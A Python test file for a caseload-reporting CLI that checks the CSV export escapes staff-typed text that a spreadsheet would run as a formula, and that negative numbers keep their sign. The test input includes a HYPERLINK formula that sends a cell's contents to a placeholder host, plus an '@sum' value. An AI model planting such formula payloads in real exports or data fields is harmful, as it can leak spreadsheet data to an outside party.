"""A report's CSV opened in a spreadsheet: text typed by staff is never run as a formula.

Staff ids, providers and channels are free text that many people type; a spreadsheet runs a
cell beginning with =, +, -, @ (or a tab or carriage return) as a formula (CSV injection). The
CSV of a report shows such text with a leading apostrophe; numbers keep their sign, and the
JSON keeps the values as recorded.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from cli_helpers import Traject, days_ago

FORMULA = '=hyperlink("http://example.invalid/?"&a1,"open")'  # staff names are in lower case


def csv_rows(traject: Traject, *args: str) -> list[dict[str, Any]]:
    return list(csv.DictReader(io.StringIO(traject.ok(*args, "--format", "csv").stdout)))


def test_staff_text_that_a_spreadsheet_would_run_is_shown_as_text(ledger: Traject) -> None:
    person = ledger.register()
    ledger.ok(
        "record", "coach-assigned", person, "--on", days_ago(3), "--staff-id", FORMULA,
        "--role", "regisseur",
    )  # fmt: skip
    ledger.ok(
        "record", "coach-assigned", person, "--on", days_ago(3), "--staff-id", "@sum(a1:a9)",
        "--role", "klantmanager",
    )  # fmt: skip
    (row,) = csv_rows(ledger, "caseload")
    assert row["regisseurs"] == "'" + FORMULA
    assert row["coaches"] == "klantmanager:@sum(a1:a9)"  # not at the start of the cell
    assert ledger.json("caseload")["rows"][0]["regisseurs"] == FORMULA
    (row,) = csv_rows(ledger, "caseload", "--coach", "@sum(a1:a9)")
    assert row["regisseurs"] == "'" + FORMULA


def test_a_negative_number_keeps_its_sign(ledger: Traject) -> None:
    ledger.ok(
        "record", "taakstelling-set", "GM0622", "--on", "2025-12-01", "--period", "2026H1",
        "--target", "7", "--source-ref", "circulaire 2026-I",
    )  # fmt: skip
    (row,) = csv_rows(ledger, "report", "housing", "--period", "2026H1")
    assert row["balance"] == "-7"
    assert row["realised"] == "0"
